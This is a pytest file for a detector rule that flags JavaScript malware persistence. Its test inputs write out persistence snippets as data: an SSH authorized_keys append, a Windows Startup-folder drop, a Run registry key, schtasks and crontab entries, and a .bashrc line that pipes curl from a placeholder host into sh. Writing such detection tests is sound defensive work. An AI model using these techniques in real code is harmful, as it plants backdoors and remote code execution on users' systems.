import pytest

from lazaretto.detect.rules.javascript.persistence import RULE


def test_key_of_its_own(look):
    source = "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', KEY);\n"
    assert look(RULE, source) == [
        (2, "HIGH", "MEDIUM", "makes itself start again by a key of its own for SSH: authorized_keys")
    ]


@pytest.mark.parametrize(
    ("source", "grade"),
    [
        ("const d = process.env.APPDATA + '/Microsoft/Windows/Start Menu/Programs/Startup/a.vbs'; fs.writeFileSync(d, x)", ("HIGH", "MEDIUM")),
        ("cp.exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v a /d b')", ("HIGH", "MEDIUM")),
        ("fs.appendFileSync(os.homedir() + '/.bashrc', line)", ("LOW", "MEDIUM")),
        ("cp.execSync('schtasks /create /tn a /tr b')", ("LOW", "MEDIUM")),
        ("cp.exec('(crontab -l; echo x) | crontab -')", ("LOW", "MEDIUM")),
    ],
)  # fmt: skip
def test_grades(look, source, grade):
    head = "const fs = require('fs'), os = require('os'), cp = require('child_process');\n"
    tail = "\nexports.detached = true;"
    assert [fact[1:3] for fact in look(RULE, head + source + tail)] == [grade]


@pytest.mark.parametrize(
    "source",
    [
        "fs.readFileSync(os.homedir() + '/.bashrc')",
        "fs.writeFileSync('out.json', text); // see ~/.zshrc",
        "const text = 'edit your .bashrc'; console.log(text)",
    ],
)
def test_near_misses(look, source):
    assert look(RULE, "const fs = require('fs');" + source) == []


def test_a_line_that_fetches_and_starts_something(look):
    source = 'require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "{line}\\n");\n'
    fetches = "curl -s https://files.example.test/a | sh &"
    assert [fact[1:3] for fact in look(RULE, source.replace("{line}", fetches))] == [("HIGH", "HIGH")]
    assert [fact[1:3] for fact in look(RULE, source.replace("{line}", "export PATH"))] == [("LOW", "MEDIUM")]
